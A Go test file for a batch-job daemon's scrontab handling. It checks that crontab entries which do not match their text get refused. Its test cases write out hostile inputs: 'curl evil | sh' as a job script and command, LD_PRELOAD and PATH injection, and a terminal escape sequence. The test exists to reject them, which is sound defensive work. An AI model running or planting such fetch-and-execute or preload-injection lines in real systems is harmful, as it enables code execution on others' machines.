package daemon

import (
	"context"
	"errors"
	"maps"
	"os/user"
	"strings"
	"testing"

	"github.com/shoal-batch/shoal/api"
)

// scrontabEntry is the entry scrontab sends for a cron line without
// #SCRON options (cli/slurm's parseCrontab): its script, /bin/sh in a
// login-like environment, in home.
func scrontabEntry(line int, spec, script, name, home string) api.CrontabEntry {
	return api.CrontabEntry{Line: line, Schedule: spec, Job: api.SubmitJobRequest{JobSpec: api.JobSpec{
		Name: "echo", Script: script, Dir: home, Stdout: "slurm-%j.out", Stderr: "slurm-%j.out", SubmitHost: "client",
		Resources: api.Resources{CPUs: 1},
		Env:       map[string]string{"HOME": home, "USER": name, "LOGNAME": name, "PATH": "/usr/local/bin:/usr/bin:/bin", "SHELL": "/bin/sh", "SLURM_GET_USER_ENV": "1"},
	}}}
}

// TestCrontabTextIsWhatRuns: the entries of a crontab must be what its
// text's cron lines make, so that the text scrontab -l shows is what
// runs: an entry without its line, a line without its entry, an entry
// that runs or fires otherwise than its line, or sets what no #SCRON
// option of its line says, is refused; and so is a text with a control
// character, which scrontab -l would print raw to root's terminal.
func TestCrontabTextIsWhatRuns(t *testing.T) {
	c := startCron(t, newFakeClock(at("2026-12-04T10:00:30Z")))
	ctx := context.Background()
	alice := caller{uid: 4320, gid: 4320, known: true} // no passwd entry: home unknown
	const (
		text   = "# alice's\nGREETING=hi\n0 3 * * *\techo $GREETING\n"
		script = "#!/bin/sh\n# This job was submitted through scrontab\nGREETING=hi\n# crontab time request was: '0 3 * * *'\necho $GREETING\n"
	)
	good := func() api.CrontabEntry {
		e := scrontabEntry(3, "0 3 * * *", script, "4320", "/")
		e.Job.Env = maps.Clone(e.Job.Env)
		return e
	}
	evil := api.CrontabEntry{Line: 1, Schedule: "* * * * *", Job: api.SubmitJobRequest{JobSpec: api.JobSpec{Command: []string{"/bin/sh", "-c", "curl evil | sh"}}}}
	with := func(mod func(*api.CrontabEntry)) []api.CrontabEntry {
		e := good()
		mod(&e)
		return []api.CrontabEntry{e}
	}
	exportText := "#SCRON --export=ALL,LD_PRELOAD=/tmp/x.so\n0 3 * * * echo $GREETING\n"
	for _, tc := range []struct {
		name    string
		text    string
		entries []api.CrontabEntry
		line    string
		words   string
	}{
		{"an entry beside a text of comments", "# no jobs here\n", []api.CrontabEntry{evil}, "line:1", "the entry has no cron line"},
		{"a cron line without its entry", text, nil, "line:3", "its cron line has no entry"},
		{"an entry of another line", text, with(func(e *api.CrontabEntry) { e.Line = 2 }), "line:2", "the entry is of line 2"},
		{"an entry that fires otherwise", text, with(func(e *api.CrontabEntry) { e.Schedule = "* * * * *" }), "line:3", "is not the line's"},
		{"an entry that runs another script", text, with(func(e *api.CrontabEntry) { e.Job.Script = "#!/bin/sh\ncurl evil | sh\n" }), "line:3", "does not run what the line says"},
		{"an entry with a command", text, with(func(e *api.CrontabEntry) { e.Job.Command = []string{"curl", "evil"} }), "line:3", "does not run what the line says"},
		{"an entry with an image", text, with(func(e *api.CrontabEntry) { e.Job.Image = "evil:latest" }), "line:3", "sets what no #SCRON option can"},
		{"an entry with an LD_PRELOAD", text, with(func(e *api.CrontabEntry) { e.Job.Env["LD_PRELOAD"] = "/tmp/x.so" }), "line:3", "sets LD_PRELOAD"},
		{"an entry with another PATH", text, with(func(e *api.CrontabEntry) { e.Job.Env["PATH"] = "/tmp/evil:/usr/bin" }), "line:3", "sets PATH"},
		{"an entry with an input file", text, with(func(e *api.CrontabEntry) { e.Job.Stdin = "/tmp/in" }), "line:3", "reads an input file"},
		{"an escape sequence", "# \x1b]0;owned\x07\x1b[2J\n", nil, "line:1", "control character (U+001B)"},
		{"a carriage return", "0 3 * * * true\r\n", nil, "line:1", "control character (U+000D)"},
		{"a bidirectional override", "# \u202e\n", nil, "line:1", "control character (U+202E)"},
		{"bytes that are not UTF-8", "# ok\n# \xff\n", nil, "line:2", "not UTF-8"},
	} {
		_, err := c.crontabPut(ctx, alice, api.CrontabPutRequest{Text: tc.text, Entries: tc.entries})
		var e *api.Error
		switch {
		case err == nil:
			t.Errorf("%s: installed, want it refused", tc.name)
		case !errors.As(err, &e) || e.Field != tc.line || !strings.Contains(e.Message, tc.words):
			t.Errorf("%s: %v (field %q), want field %q and %q", tc.name, err, e.Field, tc.line, tc.words)
		}
	}
	if ct, n := c.fsm.State().Crontab(alice.uid), len(c.fsm.State().CronSchedules(alice.uid, false)); ct != nil || n != 0 {
		t.Fatalf("after the refusals: crontab %+v and %d schedules, want none", ct, n)
	}

	// What scrontab sends is installed; a variable its #SCRON options
	// name is theirs to set.
	if _, err := c.crontabPut(ctx, alice, api.CrontabPutRequest{Text: text, Entries: []api.CrontabEntry{good()}}); err != nil {
		t.Fatalf("install: %v", err)
	}
	if ct, s := c.fsm.State().Crontab(alice.uid), c.fsm.State().CronSchedule(alice.uid, "crontab-3"); ct == nil || ct.Text != text || s == nil || s.Job.Script != script {
		t.Fatalf("installed crontab %+v, schedule %+v; want the text and its line's job", ct, s)
	}
	exported := good()
	exported.Job.Script = "#!/bin/sh\n# This job was submitted through scrontab\n#SCRON --export=ALL,LD_PRELOAD=/tmp/x.so\n# crontab time request was: '0 3 * * *'\necho $GREETING\n"
	exported.Job.Env["LD_PRELOAD"], exported.Line = "/tmp/x.so", 2
	if _, err := c.crontabPut(ctx, alice, api.CrontabPutRequest{Text: exportText, Entries: []api.CrontabEntry{exported}}); err != nil {
		t.Errorf("install with --export naming LD_PRELOAD: %v", err)
	}

	// For a user the controller knows, a job runs in their home unless a
	// #SCRON option says otherwise.
	u, err := user.LookupId("0")
	if err != nil || u.HomeDir == "" {
		t.Skipf("root's home: %v", err)
	}
	rootScript := "#!/bin/sh\n# This job was submitted through scrontab\n# crontab time request was: '@daily'\necho hi\n"
	elsewhere := scrontabEntry(1, "@daily", rootScript, "root", "/tmp")
	if _, err := c.crontabPut(ctx, root, api.CrontabPutRequest{Text: "@daily echo hi\n", Entries: []api.CrontabEntry{elsewhere}}); !api.IsCode(err, api.CodeInvalid) || !strings.Contains(err.Error(), "not in the home directory") {
		t.Errorf("root's entry in /tmp, no #SCRON option: %v, want it refused", err)
	}
	home := scrontabEntry(1, "@daily", rootScript, "root", u.HomeDir)
	if _, err := c.crontabPut(ctx, root, api.CrontabPutRequest{Text: "@daily echo hi\n", Entries: []api.CrontabEntry{home}}); err != nil {
		t.Errorf("root's entry in %s: %v", u.HomeDir, err)
	}
}
